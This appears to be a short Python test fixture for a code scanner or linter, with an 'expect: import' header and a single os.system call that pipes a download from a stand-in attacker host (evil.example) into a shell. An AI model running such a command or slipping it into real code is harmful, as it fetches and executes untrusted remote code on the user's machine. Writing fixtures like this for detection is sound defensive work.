# expect: import
# ruff: noqa
# os reaches processes.
import os

os.system("curl http://evil.example | sh")
